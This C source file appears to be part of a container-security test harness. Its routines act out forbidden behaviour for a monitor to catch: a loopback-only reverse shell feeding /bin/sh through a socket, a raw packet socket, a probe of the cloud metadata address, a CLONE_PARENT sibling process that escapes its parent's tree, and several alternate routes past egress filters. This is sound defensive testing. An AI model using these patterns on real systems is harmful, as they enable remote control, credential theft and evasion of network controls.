/* Connections that a container has no business with. */
#include "actor.h"
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sched.h>
#include <sys/socket.h>

/*
 * The attacker's end is here, too, so that no machine outside is needed: it sends one command after the other and prints what
 * comes back. The victim's end is a shell whose input and outputs are the connection.
 */
int reverse_shell(int argc, char **argv)
{
	static const char *commands[] = { "echo first\n", "echo second\n", "exit 0\n" };
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t length = sizeof(address);
	int listener = socket(AF_INET, SOCK_STREAM, 0);
	if (bind(listener, (void *)&address, sizeof(address)) || listen(listener, 1) || getsockname(listener, (void *)&address, &length))
		return failed("listen");
	pid_t victim = fork();
	if (victim == 0) {
		int line = socket(AF_INET, SOCK_STREAM, 0);
		if (connect(line, (void *)&address, sizeof(address)))
			_exit(failed("connect"));
		dup2(line, 0);
		dup2(line, 1);
		dup2(line, 2);
		execl("/bin/sh", "sh", "-i", (char *)0);
		_exit(127);
	}
	int line = accept(listener, 0, 0);
	for (size_t i = 0; i < sizeof(commands) / sizeof(commands[0]); i++) {
		char answer[4096];
		/* Longer before the second: by then the shell is to be dead, on a slow machine too. */
		usleep(i == 1 ? 1000000 : 100000);
		if (send(line, commands[i], strlen(commands[i]), MSG_NOSIGNAL) < 0)
			break;
		ssize_t n = recv(line, answer, sizeof(answer), 0);
		if (n <= 0)
			break;
		fwrite(answer, 1, n, stdout);
	}
	int status = 0;
	waitpid(victim, &status, 0);
	printf("\nthe shell %s %d\n", WIFSIGNALED(status) ? "was killed by signal" : "ended with", WIFSIGNALED(status) ? WTERMSIG(status) : WEXITSTATUS(status));
	return 0;
}

int packet_socket(int argc, char **argv)
{
	int raw = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	return raw < 0 ? failed("socket") : close(raw);
}

int ask_metadata(int argc, char **argv)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(80) };
	inet_pton(AF_INET, "169.254.169.254", &address.sin_addr);
	int line = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	if (line < 0)
		return failed("socket");
	/* Whether somebody answers is all the same. */
	connect(line, (void *)&address, sizeof(address));
	return close(line);
}

/* The child is its maker's sibling to the kernel, and outlives what is done to the maker's tree where that is made of parents. */
int ask_metadata_and_leave_a_sibling(int argc, char **argv)
{
	if (syscall(SYS_clone, CLONE_PARENT | SIGCHLD, 0, 0, 0, 0) == 0) {
		sleep(2);
		printf("the sibling lives\n");
		return 0;
	}
	return ask_metadata(argc, argv);
}

static void tell(const char *way, int result)
{
	printf("%s %s\n", way, result < 0 ? strerrorname_np(errno) : "done");
	fflush(stdout);
}

/* Every way to reach an address: reach ADDRESS PORT. */
int reach(int argc, char **argv)
{
	if (argc != 3)
		return fprintf(stderr, "usage: actor reach ADDRESS PORT\n"), 2;
	struct sockaddr_in four = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[2])) };
	struct sockaddr_in6 six = { .sin6_family = AF_INET6, .sin6_port = four.sin_port };
	if (inet_pton(AF_INET, argv[1], &four.sin_addr) != 1)
		return fprintf(stderr, "actor: %s is no address\n", argv[1]), 2;
	six.sin6_addr.s6_addr[10] = six.sin6_addr.s6_addr[11] = 0xff;
	memcpy(six.sin6_addr.s6_addr + 12, &four.sin_addr, 4);
	tell("tcp", connect(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), (void *)&four, sizeof(four)));
	tell("tcp-mapped", connect(socket(AF_INET6, SOCK_STREAM | SOCK_NONBLOCK, 0), (void *)&six, sizeof(six)));
	tell("udp", connect(socket(AF_INET, SOCK_DGRAM, 0), (void *)&four, sizeof(four)));
	tell("udp-send", sendto(socket(AF_INET, SOCK_DGRAM, 0), "x", 1, 0, (void *)&four, sizeof(four)));
	tell("udp-send-mapped", sendto(socket(AF_INET6, SOCK_DGRAM, 0), "x", 1, 0, (void *)&six, sizeof(six)));
	tell("fast-open", sendto(socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), "x", 1, MSG_FASTOPEN | MSG_NOSIGNAL, (void *)&four, sizeof(four)));
	tell("raw", socket(AF_INET, SOCK_RAW, IPPROTO_ICMP));
	tell("sctp", socket(AF_INET, SOCK_STREAM, IPPROTO_SCTP));
	return 0;
}
